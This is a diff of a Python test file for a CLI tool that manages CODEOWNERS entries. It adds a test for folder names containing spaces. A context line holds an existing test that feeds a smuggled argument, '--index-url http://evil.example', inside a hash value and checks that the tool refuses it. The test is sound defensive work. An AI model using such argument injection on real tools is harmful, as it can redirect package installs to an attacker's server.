@@ -333,6 +333,16 @@ def test_on_gitlab_no_workflow_of_github_is_written(cli: Cli, tmp_path: Path) ->
     assert "/.gitlab-ci.yml" in (root / "CODEOWNERS").read_text()
 
 
+def test_owners_of_a_folder_with_a_space_in_its_name_are_found(cli: Cli, tmp_path: Path) -> None:
+    root = _repository(tmp_path)
+    git(root, "config", "github.user", "ada")
+    assert cli(root, "init", "--root", "our prompts").code == 0
+    assert "/our\\ prompts/evals/" in (root / ".github/CODEOWNERS").read_text()
+    said = cli(root / "our prompts", "doctor").out
+    assert "suites have owners" in said
+    assert "no owner" not in said
+
+
 def test_a_hash_that_is_none_is_refused(cli: Cli, tmp_path: Path) -> None:
     ended = cli(tmp_path, "init", "--hash", "sha256:abc --index-url http://evil.example")
     assert ended.code == 2
